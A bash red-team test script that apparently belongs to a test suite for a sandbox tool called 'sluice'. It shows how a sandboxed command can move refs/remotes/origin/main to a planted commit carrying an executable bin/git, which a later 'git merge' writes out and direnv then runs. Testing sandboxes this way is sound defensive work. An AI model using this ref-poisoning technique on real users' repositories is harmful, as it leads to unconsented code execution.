#!/usr/bin/env bash
# red team 48: a remote-tracking ref, moved by the run. The command points
# refs/remotes/origin/main (the upstream of the user's main) at a commit of
# its own, HEAD plus an executable bin/git (git objects and a ref only; the
# work tree is never touched). `git status` then says "Your branch is
# behind 'origin/main' by 1 commit, and can be fast-forwarded"; the user's
# `git merge` (no argument: the upstream), or `git rebase` (the same
# upstream; both without fetching), writes bin/git, and the next `git
# status` with direnv's PATH_add bin runs it. The check after a run never
# reads refs/remotes/.
# usage: 48-remote-tracking.sh /path/to/sluice   (as root or a user)
NAME=remote-tracking
HOLE="the user's git merge of their upstream wrote the command's bin/git; the next git status ran it"
. "$(dirname "$0")/48-lib.sh"
setup() {
  git init -q --bare "$1.origin" && new_repo "$1.seed" && git -C "$1.seed" push -q "$1.origin" main &&
    git clone -q "$1.origin" "$1"
}
attack() { plant "$1"; echo '&& $G update-ref refs/remotes/origin/main $C'; }
trigger() { echo "   git status: $(git -C "$1" status | sed -n 2p)"; git -C "$1" merge -q >/dev/null 2>&1; user_status "$1"; }
finish
